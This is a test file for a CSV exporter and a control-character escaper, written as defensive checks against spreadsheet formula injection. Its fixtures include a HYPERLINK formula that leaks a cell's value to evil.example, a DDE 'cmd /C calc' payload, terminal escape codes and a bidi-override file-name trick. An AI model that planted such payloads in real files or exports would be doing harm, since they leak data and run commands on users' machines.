import { describe, expect, it } from 'vitest';

import { parseCsv } from '../../renderer/src/lib/csv';
import { escapeControlChars, hasControlChars } from '../../shared/text/control-chars';
import { csvCell, csvText } from '../../shared/text/csv';

describe('CSV cells a spreadsheet cannot run (OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['  =1+1', `"'  =1+1"`],
  ])('prefixes %s with a quote and quotes the field', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('neutralises a leading tab or carriage return (escaped, and quoted)', () => {
    expect(csvCell('\t=1+1')).toBe(`"'\\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\\r=1+1"`);
  });

  it('leaves ordinary text and numbers as they are', () => {
    expect(csvCell('dev-1')).toBe('dev-1');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell('user@site')).toBe('user@site');
  });

  it('writes RFC 4180 lines a CSV reader gives back cell for cell', () => {
    const text = csvText(['name', 'error'], [['=1+1', 'line\nbreak "q"']]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual([
      ['name', 'error'],
      ["'=1+1", 'line\\nbreak "q"'],
    ]);
  });
});

describe('control characters', () => {
  it('finds C0, DEL, C1, line separators and bidi overrides', () => {
    for (const c of ['\u0000', '\n', '\u001b', '\u007f', '\u009b', '\u2028', '\u202e', '\u2066'])
      expect(hasControlChars(`a${c}b`)).toBe(true);
    expect(hasControlChars('Pompe 3 – Hall B, ÄÖÜ 温度')).toBe(false);
  });

  it('escapes them visibly, so a terminal or log shows them instead of obeying them', () => {
    expect(escapeControlChars('\u001b[2J\u001b[HX')).toBe('\\x1b[2J\\x1b[HX');
    expect(escapeControlChars('a\nb\r\tc')).toBe('a\\nb\\r\\tc');
    expect(escapeControlChars('evil\u202eexe.txt')).toBe('evil\\u202eexe.txt');
    expect(escapeControlChars('plain – ok')).toBe('plain – ok');
  });
});
